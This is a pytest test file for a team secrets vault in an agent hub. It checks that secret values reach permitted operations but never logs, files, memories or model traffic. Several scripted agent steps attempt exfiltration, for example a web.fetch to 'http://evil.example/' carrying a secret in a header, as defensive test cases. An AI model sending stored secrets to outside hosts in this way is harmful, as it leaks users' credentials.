"""Vaults of teams in a hub: operations get values, models get handles, and nothing keeps a value."""

from __future__ import annotations

import asyncio
import base64
import logging
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest

from dragoman.cli.logging_setup import TextFormatter
from dragoman.errors import NotFound
from dragoman.store.encryption import MasterKey
from dragoman.store.teams.vault import OPERATOR, VaultEntry
from dragoman.teams.vault.secrets import TeamSecrets
from tests.serving import Served, serving
from tests.teams.test_team_agents import write_team
from tests.teams.test_team_prompts import played

VALUE = "tok-5f1e9a-live-87c2"
MASTER = MasterKey.generate()
OPERATIONS = """
import base64
import logging
from pathlib import Path

from dragoman.operations import Context, operation

GOT = Path(__file__).with_name("got.txt")
log = logging.getLogger("dragoman.mail")


@operation("mail")
async def send(token: str, to: str, context: Context) -> dict:
    GOT.write_text(token)
    log.warning("sending with %s and %s", token, base64.b64encode(token.encode()).decode())
    context.progress({"with": token})
    return {"to": to, "echo": [f"x{token}y", base64.b64encode(f"u:{token}".encode()).decode()]}


@operation("mail")
async def break_down(token: str) -> str:
    raise ValueError(f"bad token {token}")


@operation("mail")
async def bulk(token: str) -> list:
    return [f"{number} {token}" for number in range(4000)]
"""
TOOLS = "[mail.send, mail.break_down, mail.bulk, files.*, vault.*, memory.*, press.*, web.fetch]"


@asynccontextmanager
async def press(
    folder: Path, steps: Sequence[Mapping[str, Any]], *, plain: bool = False, **config: Any
) -> AsyncIterator[Served]:
    """A hub with the team `press`, whose vault has an entry of the operator."""
    write_team(folder / "teams", "press", f"allowed_tools: {TOOLS}")
    write_team(folder / "teams", "desk", f"allowed_tools: {TOOLS}")
    (folder / "ops.py").write_text(OPERATIONS)
    (folder / "master.key").write_text(MASTER.to_text())
    async with serving(
        folder,
        steps,
        teams=str(folder / "teams"),
        operations=[str(folder / "ops.py")],
        master_key_file=str(folder / "master.key"),
        **config,
    ) as served:
        entry = VaultEntry(team="press", owner=OPERATOR, name="mailer", receivers=("mail.*",), plain=plain)
        await served.hub.store.vault.put(entry, VALUE)
        yield served


def call(tool: str, **input: Any) -> dict[str, Any]:
    return {"tools": [{"name": "hub_call", "input": {"calls": [{"tool": tool, "input": input}]}}]}


def stored(folder: Path) -> bytes:
    """All bytes that the hub has written, but for the vault itself, which is encrypted."""
    return b"".join(path.read_bytes() for path in (folder / "hub").rglob("*") if path.is_file())


def assert_sealed(*places: bytes | str) -> None:
    forms = [VALUE, base64.b64encode(VALUE.encode()).decode()[:-2], VALUE.encode().hex()]
    for place in places:
        text = place.decode(errors="replace") if isinstance(place, bytes) else place
        assert [form for form in forms if form in text] == []


@pytest.mark.promise("secret-handles")
async def test_an_operation_gets_the_value_and_no_door_or_table_shows_it(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    steps = [
        call("vault.get", name="mailer"),
        call("mail.send", token="secret:mailer", to="ann"),
        call("mail.break_down", token="secret:mailer"),
        call("mail.bulk", token="secret:mailer"),
        {"text": "Done."},
    ]
    with caplog.at_level(logging.DEBUG):
        async with press(tmp_path, steps) as served:
            frames = await served.chat("send it", agent="press")
            assert (tmp_path / "got.txt").read_text() == VALUE
            shown = [msgspec.json.encode(frames), msgspec.json.encode(await served.messages())]
            tree = (await served.http.get("/api/calls")).text
            listed = [(await served.http.get(f"/api/{path}")).text for path in ("approvals", "runs")]
            requests = [msgspec.json.encode(request.messages) for request in played(served.hub)]
            formatter = TextFormatter(served.hub._services.environment.secrets)
            lines = "\n".join(formatter.format(record) for record in caplog.records)
            await served.hub.store.flush()
    assert "secret:mailer" in msgspec.json.encode(frames).decode()
    assert "sending with" in lines
    assert_sealed(*shown, tree, *listed, lines, *requests, stored(tmp_path))


async def test_a_value_that_a_model_knows_reaches_no_file_no_memory_and_no_record(tmp_path: Path) -> None:
    steps = [
        call("memory.save", key="token", content=f"The token is {VALUE}."),
        call("files.write", path="workspace/a.txt", text=f"TOKEN={VALUE}"),
        call("files.write", path="workspace/b.txt", text=base64.b64encode(f"u:{VALUE}".encode()).decode()),
        {"text": "Done."},
    ]
    async with press(tmp_path, steps) as served:
        await served.chat("go", agent="press")
        assert (await served.hub.store.memories.list("press", "local"))[0].content == (
            "The token is secret:mailer."
        )
        assert_sealed((await served.http.get("/api/calls?limit=50")).text)
    folder = tmp_path / "teams/press/workspace"
    assert (folder / "a.txt").read_text() == "TOKEN=secret:mailer"
    assert_sealed((folder / "b.txt").read_text())


async def test_what_the_operator_manages_is_used_and_not_changed(tmp_path: Path) -> None:
    steps = [
        call("vault.set", name="mailer", value="another-value", operations=["mail.send"]),
        call("vault.delete", name="mailer"),
        call("vault.list"),
        {"text": "Done."},
    ]
    async with press(tmp_path, steps) as served:
        await served.chat("go", agent="press")
        rows = (await served.http.get("/api/calls?limit=50")).json()["calls"]
        ended = {each["name"]: each["status"] for each in rows}
        assert ended["vault.set"] == ended["vault.delete"] == "failed"
        assert ended["vault.list"] == "done"
        assert b"another-value" not in msgspec.json.encode(rows)


async def test_a_team_sets_a_secret_and_another_team_or_owner_cannot_use_it(tmp_path: Path) -> None:
    own = call("vault.set", name="own", operations=["mail.send"])
    use = call("mail.send", token="secret:own", to="ann")
    async with press(tmp_path, [own, use, {"text": "Done."}, use, {"text": "Done."}]) as served:
        await served.chat("go", agent="press")
        generated = (tmp_path / "got.txt").read_text()
        assert len(generated) > 40
        (tmp_path / "got.txt").unlink()
        frames = await served.chat("go", agent="desk", session="t")
        assert not (tmp_path / "got.txt").exists()
        assert "There is no secret 'own'" in msgspec.json.encode(frames).decode()
        assert await served.hub.store.vault.list("press", "bob") == await served.hub.store.vault.list(
            "press", OPERATOR
        )


@pytest.mark.parametrize("tool", ["web.fetch", "files.write", "memory.save", "press.helper"])
async def test_a_secret_goes_to_no_operation_that_may_not_have_it(tmp_path: Path, tool: str) -> None:
    inputs: dict[str, dict[str, Any]] = {
        "web.fetch": {"url": "http://example.com/?t=secret:mailer"},
        "files.write": {"path": "a.txt", "text": "secret:mailer"},
        "memory.save": {"key": "k", "content": "secret:mailer"},
        "press.helper": {"prompt": "use secret:mailer"},
    }
    write_team(tmp_path / "teams", "press", "", **{"subagents/helper.md": "---\ndescription: h\n---\nHelp."})
    steps = [call(tool, **inputs[tool]), {"text": "ok"}, {"text": "ok"}]
    async with press(tmp_path, steps[: 3 if tool == "press.helper" else 2]) as served:
        frames = msgspec.json.encode(await served.chat("go", agent="press")).decode()
        assert_sealed(frames, *(msgspec.json.encode(r.messages) for r in played(served.hub)))
        assert ("may not receive secret:mailer" in frames) == (tool == "web.fetch")
        await served.hub.store.flush()
    assert_sealed(stored(tmp_path))


async def test_a_secret_is_sent_to_the_origins_that_its_operator_names_alone(tmp_path: Path) -> None:
    steps = [
        call("vault.get", name="api"),
        call("web.fetch", url="http://evil.example/", request={"headers": {"x": "secret:api"}}),
        call("web.fetch", url="http://127.0.0.1:9/", request={"headers": {"x": "secret:api"}}),
        {"text": "Done."},
    ]
    async with press(tmp_path, steps) as served:
        vault = served.hub.store.vault
        entry = VaultEntry(team="press", owner=OPERATOR, name="api", receivers=("web.fetch",))
        await vault.put(entry, f"{VALUE}-2")
        with pytest.raises(NotFound):
            await vault.bind("press", OPERATOR, name="apy", origins=["http://127.0.0.1:9"])
        await vault.bind("press", OPERATOR, name="api", origins=["http://127.0.0.1:9"])
        frames = msgspec.json.encode(await served.chat("go", agent="press")).decode()
        assert frames.count("secret:api may not be sent to the address in the input of web.fetch") == 1
        assert "Origins that it may be sent to: http://127.0.0.1:9" in frames
        assert frames.count("allowed are ports 80, 443") == 1  # of a request that the vault let pass
        listed = (await served.http.get("/api/vault?team=press")).json()["secrets"]
        assert {each["name"]: each["origins"] for each in listed} == {
            "api": ["http://127.0.0.1:9"],
            "mailer": [],
        }


@pytest.mark.parametrize("plain", [False, True])
async def test_a_model_reads_a_value_only_where_the_operator_allows_it(tmp_path: Path, plain: bool) -> None:
    steps = [call("vault.get", name="mailer", plain=True), {"text": "Done."}]
    async with press(tmp_path, steps, plain=plain) as served:
        frames = msgspec.json.encode(await served.chat("go", agent="press")).decode()
        calls = (await served.http.get("/api/calls?limit=50")).text
        assert (VALUE in frames) == plain
        assert ("cannot be returned in plain text" in frames) == (not plain)
        assert_sealed(calls)


async def test_without_its_master_key_a_vault_lets_no_call_of_its_team_run(tmp_path: Path) -> None:
    async with press(tmp_path, [{"text": "Done."}]) as served:
        await served.chat("go", agent="press")
    (tmp_path / "other.key").write_text(MasterKey.generate().to_text())
    steps = [call("mail.send", token=VALUE, to="ann"), {"text": "Done."}]
    async with serving(
        tmp_path,
        steps,
        teams=str(tmp_path / "teams"),
        operations=[str(tmp_path / "ops.py")],
        master_key_file=str(tmp_path / "other.key"),
    ) as served:
        frames = msgspec.json.encode(await served.chat("again", agent="press", session="t")).decode()
        assert "master key" in frames
        assert not (tmp_path / "got.txt").exists()


async def test_a_secret_that_is_stored_while_the_vault_is_read_is_sealed_in_the_next_call(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    late, was_read, may_return = "late-secret-1234", asyncio.Event(), asyncio.Event()
    async with press(tmp_path, []) as served:
        vault = served.hub.store.vault
        secrets = TeamSecrets(vault, served.hub._services.teams.registry, logged=set())
        read = vault.read

        async def read_and_wait(team: str, owner: str) -> Sequence[tuple[VaultEntry, str]]:
            values = await read(team, owner)
            was_read.set()
            await may_return.wait()
            return values

        monkeypatch.setattr(vault, "read", read_and_wait)
        loading = asyncio.create_task(secrets.load("press", "ann", run_id="run_1"))
        await was_read.wait()
        await vault.put(VaultEntry(team="press", owner="ann", name="late", receivers=("mail.*",)), late)
        secrets.forget()
        may_return.set()
        assert not (await loading).contains(late)
        assert (await secrets.load("press", "ann", run_id="run_1")).contains(late)
